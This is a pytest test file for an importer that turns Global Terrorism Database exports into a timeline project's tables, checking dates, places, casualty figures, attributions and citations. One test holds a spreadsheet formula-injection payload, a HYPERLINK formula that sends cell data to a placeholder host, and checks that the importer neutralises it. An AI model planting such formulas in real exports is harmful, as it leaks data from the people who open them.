"""`timeline.importers.gtd`: a Global Terrorism Database export, written here
with the GTD's own column names, read into the project's tables."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from timeline.errors import InvalidInputError, OutputError
from timeline.importers import import_gtd
from timeline.load import load
from timeline.placescache import PlacesCache

# The GTD's columns in its order (a part: the importer reads these, and must ignore the rest).
COLUMNS = [
    "eventid",
    "iyear",
    "imonth",
    "iday",
    "approxdate",
    "extended",
    "resolution",
    "country",
    "country_txt",
    "region",
    "region_txt",
    "provstate",
    "city",
    "latitude",
    "longitude",
    "specificity",
    "vicinity",
    "summary",
    "success",
    "attacktype1",
    "attacktype1_txt",
    "targtype1_txt",
    "gname",
    "guncertain1",
    "claimed",
    "nkill",
    "nwound",
    "scite1",
    "scite2",
    "scite3",
    "dbsource",
]
BASE = {
    "iyear": "2017", "imonth": "6", "iday": "3", "extended": "0", "country_txt": "Iraq", "provstate": "Baghdad",
    "city": "Baghdad", "latitude": "33.303566", "longitude": "44.371773", "specificity": "1", "success": "1",
    "attacktype1_txt": "Bombing/Explosion", "gname": "Unknown", "guncertain1": "0", "claimed": "0",
    "dbsource": "START Primary Collection",
}  # fmt: skip


def export(tmp_path: Path, *rows: dict, encoding: str = "utf-8", name: str = "gtd.csv") -> Path:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(COLUMNS)
    for n, row in enumerate(rows, 1):
        cells = {**BASE, "eventid": f"2017060300{n:02d}", **row}
        writer.writerow([cells.get(c, "") for c in COLUMNS])
    path = tmp_path / name
    path.write_bytes(out.getvalue().encode(encoding))
    return path


def imported(tmp_path: Path, *rows: dict, **kwargs) -> tuple[dict[str, dict], Path]:
    """The events written, by id, and the folder they were written to."""
    out = tmp_path / "out"
    import_gtd(export(tmp_path, *rows, **kwargs), out)
    with open(out / "events.csv", encoding="utf-8", newline="") as handle:
        return {row["id"]: row for row in csv.DictReader(handle)}, out


def citations(out: Path) -> list[dict]:
    with open(out / "citations.csv", encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_dates_as_precise_as_the_gtd_knows_them(tmp_path: Path) -> None:
    events, out = imported(
        tmp_path,
        {"iday": "0"},
        {"imonth": "0", "iday": "0", "approxdate": "sometime in 2017"},
        {"approxdate": "June 3-4, 2017", "summary": "Two days of clashes."},
        {"extended": "1", "resolution": "2017-06-10"},
    )
    day0, month0, approx, extended = events.values()
    assert day0["date"] == "2017-06"
    assert month0["date"] == "2017"
    assert "“sometime in 2017”" in month0["summary"]
    # approxdate's words are kept, never read into a date of their own
    assert approx["date"] == "2017-06-03" and approx["end_date"] == ""
    assert approx["summary"] == "Two days of clashes. The GTD gives the date as “June 3-4, 2017”."
    assert extended["end_date"] == "2017-06-10"
    dataset = load(out / "events.csv")
    assert [e.date.precision for e in dataset.events] == ["month", "year", "day", "day"]
    assert dataset.warnings == []


def test_specificity_sets_the_precision_of_the_point(tmp_path: Path) -> None:
    events, out = imported(
        tmp_path,
        {"specificity": "1"},
        {"specificity": "3", "city": "Unknown", "provstate": "Anbar", "latitude": "33.4", "longitude": "42.0"},
        {"specificity": "5", "city": "Unknown", "provstate": "Unknown", "latitude": "33.2", "longitude": "43.7"},
        {"specificity": "1", "latitude": "33.31", "longitude": "44.37"},  # Baghdad again, another point
        {"specificity": "1", "latitude": "", "longitude": ""},  # no point: the text, for the gazetteer
    )
    places = [e["place"] for e in events.values()]
    assert places[:3] == ["Baghdad, Iraq", "Anbar, Iraq", "Iraq"]
    assert places[3] == "Baghdad, Iraq (33.3100, 44.3700)"  # one text stands for one point
    cache = PlacesCache.load(out / "places.csv")
    assert [cache.get(p).precision for p in places[:4]] == ["city", "region", "country", "city"]
    assert (cache.get("Iraq").lat, cache.get("Iraq").lon) == (33.2, 43.7)
    assert cache.get("Baghdad, Iraq").country == "IQ"
    assert places[4] == "Baghdad, Iraq"  # the text; this event's placing is the first point's row


def test_figures_unknown_stay_blank_never_zero(tmp_path: Path) -> None:
    events, _ = imported(
        tmp_path,
        {"nkill": "", "nwound": ""},
        {"nkill": "-99", "nwound": "-9"},
        {"nkill": "0", "nwound": "12.0"},
    )
    assert [(e["killed"], e["injured"]) for e in events.values()] == [("", ""), ("", ""), ("0", "12")]


def test_blame_keeps_its_basis_and_who_claims_apart_from_who_reports(tmp_path: Path) -> None:
    events, out = imported(
        tmp_path,
        {"gname": "Islamic State of Iraq and the Levant (ISIL)", "claimed": "1"},
        {"gname": "Taliban", "guncertain1": "1"},
        {"gname": "Taliban", "claimed": "0"},
        {"gname": "Unknown"},
    )
    claimed, suspected, plain, unknown = events.values()
    assert claimed["perpetrator"] == "Islamic State of Iraq and the Levant [ISIL] (claimed)"
    assert suspected["perpetrator"] == "Taliban (suspected)"
    assert plain["perpetrator"] == "Taliban"
    assert unknown["perpetrator"] == ""
    claim = [c for c in citations(out) if c["event_id"] == claimed["id"] and c["field"] == "perpetrator"]
    assert [(c["source_id"], c["claimed_by"]) for c in claim] == [
        ("gtd", "Islamic State of Iraq and the Levant [ISIL]")
    ]
    dataset = load(out / "events.csv")
    assert dataset.warnings == []  # every value backed: cited, or from the GTD for that field


def test_each_distinct_citation_is_one_source(tmp_path: Path) -> None:
    reuters = '"Blast in Baghdad," Reuters, June 3, 2017.'
    _, out = imported(
        tmp_path,
        {"scite1": reuters, "scite2": '"Iraq attack," BBC, June 4, 2017.'},
        {"scite1": reuters, "scite3": reuters},
    )
    with open(out / "sources.csv", encoding="utf-8", newline="") as handle:
        sources = {row["id"]: row for row in csv.DictReader(handle)}
    assert sources["gtd"]["title"] == "Global Terrorism Database (START, University of Maryland)"
    titles = [s["title"] for key, s in sources.items() if key != "gtd"]
    assert sorted(titles) == sorted([reuters, '"Iraq attack," BBC, June 4, 2017.'])
    cited = [(c["event_id"][-2:], sources[c["source_id"]]["title"]) for c in citations(out)]
    assert cited.count(("02", reuters)) == 1  # named twice by one incident, cited once
    assert ("01", reuters) in cited and ("02", sources["gtd"]["title"]) in cited


def test_codes_outside_the_codebook_are_reported_and_nothing_is_written(tmp_path: Path) -> None:
    path = export(
        tmp_path,
        {"specificity": "7"},
        {"imonth": "13"},
        {"iday": "31"},  # 31 June
        {"claimed": "2", "nkill": "many"},
    )
    out = tmp_path / "out"
    with pytest.raises(InvalidInputError) as raised:
        import_gtd(path, out)
    lines = [str(p) for p in raised.value.problems]
    assert [(p.line, p.column, p.value) for p in raised.value.problems] == [
        (2, "specificity", "7"),
        (3, "imonth", "13"),
        (4, "iday", "31"),
        (5, "claimed", "2"),
        (5, "nkill", "many"),
    ]
    assert lines[1].startswith(f"{path}:3: column 'imonth': value '13' — is not a month")
    assert not out.exists()


def test_a_record_over_two_lines_is_reported_on_its_own_line(tmp_path: Path) -> None:
    path = export(tmp_path, {"summary": "First line.\nSecond line."}, {"specificity": "9"})
    with pytest.raises(InvalidInputError) as raised:
        import_gtd(path, tmp_path / "out")
    assert [(p.line, p.column) for p in raised.value.problems] == [(4, "specificity")]


def test_a_quote_never_closed_is_named_by_its_line(tmp_path: Path) -> None:
    path = export(tmp_path, {}, {}, {})
    lines = path.read_bytes().split(b"\r\n")
    lines[3] = lines[3].replace(b",Baghdad,", b',"Baghdad,', 1)
    path.write_bytes(b"\r\n".join(lines))
    with pytest.raises(InvalidInputError) as raised:
        import_gtd(path, tmp_path / "out")
    assert [(p.line, p.message) for p in raised.value.problems] == [(4, "is not valid CSV (unexpected end of data)")]


def test_pandas_reads_the_columns(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The quick path (pandas, chosen columns) is the one taken for a well-formed export."""
    from timeline.importers import common

    monkeypatch.setattr(common, "_streamed", None)  # the csv module's path, for files pandas cannot parse
    events, _ = imported(tmp_path, {"summary": "Over\ntwo lines."}, {"iday": "0"})
    assert [e["date"] for e in events.values()] == ["2017-06-03", "2017-06"]


def test_the_gtd_workbook_reads_as_its_csv(tmp_path: Path) -> None:
    """The GTD ships .xlsx too: numbers are numbers there (2017.0), and dates are dates."""
    import datetime

    import openpyxl

    rows = (
        {"nkill": "-99", "extended": "1", "resolution": "2017-06-10", "approxdate": "June 3, 2017"},
        {"iday": "0", "claimed": "1", "gname": "Taliban", "nkill": "4", "scite1": "Reuters."},
    )
    import_gtd(export(tmp_path, *rows), tmp_path / "from-csv")
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(COLUMNS)
    for n, row in enumerate(rows, 1):
        cells = {**BASE, "eventid": f"2017060300{n:02d}", **row}
        typed = []
        for column in COLUMNS:
            text = cells.get(column, "")
            if column == "resolution" and text:
                typed.append(datetime.datetime.fromisoformat(text))
            elif text and text.lstrip("-").replace(".", "", 1).isdigit() and column != "approxdate":
                typed.append(float(text) if "." in text else int(text))
            else:
                typed.append(text or None)
        sheet.append(typed)
    book.save(tmp_path / "gtd.xlsx")
    import_gtd(tmp_path / "gtd.xlsx", tmp_path / "from-xlsx")
    for name in ("events.csv", "citations.csv", "places.csv", "sources.csv"):
        assert (tmp_path / "from-xlsx" / name).read_bytes() == (tmp_path / "from-csv" / name).read_bytes().replace(
            b"gtd.csv", b"gtd.xlsx"
        )


def test_a_broken_workbook_or_another_table_is_refused(tmp_path: Path) -> None:
    book = tmp_path / "gtd.xlsx"
    book.write_bytes(b"PK\x03\x04" + b"\x00" * 64)
    with pytest.raises(InvalidInputError, match="cannot be read as a workbook"):
        import_gtd(book, tmp_path / "out")
    table = tmp_path / "events.csv"
    table.write_text("id,date,title\na,2023,A\n", encoding="utf-8")
    with pytest.raises(InvalidInputError) as raised:
        import_gtd(table, tmp_path / "out")
    assert [p.column for p in raised.value.problems] == ["eventid", "iyear", "imonth", "iday", "country_txt"]


@pytest.mark.parametrize("encoding", ["utf-8", "cp1252"])
def test_utf8_and_latin1_exports(tmp_path: Path, encoding: str) -> None:
    out = tmp_path / "out"
    path = export(
        tmp_path, {"country_txt": "Côte d’Ivoire", "city": "Abidjan", "provstate": "Lagunes"}, encoding=encoding
    )
    report = import_gtd(path, out)
    notes = [str(n) for n in report.notes]
    assert notes == ([] if encoding == "utf-8" else [f"{path} — is not UTF-8; read as Windows-1252 (Excel's usual 'CSV' on Windows); if accented letters look wrong, name the encoding with --encoding, or save the file as 'CSV UTF-8'"])  # fmt: skip
    assert load(out / "events.csv").events[0].place == "Abidjan, Lagunes, Côte d’Ivoire"


def test_an_earlier_import_is_replaced_only_when_asked(tmp_path: Path) -> None:
    out = tmp_path / "out"
    import_gtd(export(tmp_path, {}), out)
    before = (out / "events.csv").read_bytes()
    with pytest.raises(OutputError, match="already exists"):
        import_gtd(export(tmp_path, {}, {}), out)
    assert (out / "events.csv").read_bytes() == before
    import_gtd(export(tmp_path, {}, {}), out, replace=True)
    assert len(load(out / "events.csv").events) == 2


def test_same_export_same_bytes(tmp_path: Path) -> None:
    rows = ({"scite1": "a"}, {"scite1": "b", "claimed": "1", "gname": "X"}, {"iday": "0"})
    import_gtd(export(tmp_path, *rows), tmp_path / "one")
    import_gtd(export(tmp_path, *rows), tmp_path / "two")
    for name in ("events.csv", "sources.csv", "citations.csv", "places.csv", "timeline.toml"):
        assert (tmp_path / "one" / name).read_bytes() == (tmp_path / "two" / name).read_bytes()


def test_text_a_spreadsheet_would_run_is_guarded_and_reads_back_as_given(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    events, out = imported(tmp_path, {"summary": formula, "gname": "@group"})
    (row,) = events.values()
    assert row["summary"] == "'" + formula and row["perpetrator"].startswith("'@group")
    (event,) = load(out / "events.csv").events
    assert event.summary == formula and event.perpetrator.startswith("@group")


def test_a_longer_incident_without_an_end_says_so(tmp_path: Path) -> None:
    events, _ = imported(
        tmp_path,
        {"extended": "1", "resolution": "", "summary": "Gunmen held a school"},
        {"extended": "1", "resolution": "2017-06-05", "summary": "Gunmen held a hotel."},
    )
    held, ended = events.values()
    assert held["end_date"] == "" and held["summary"] == (
        "Gunmen held a school. The GTD records that it lasted more than 24 hours; it gives no end date."
    )
    assert ended["end_date"] == "2017-06-05" and ended["summary"] == "Gunmen held a hotel."
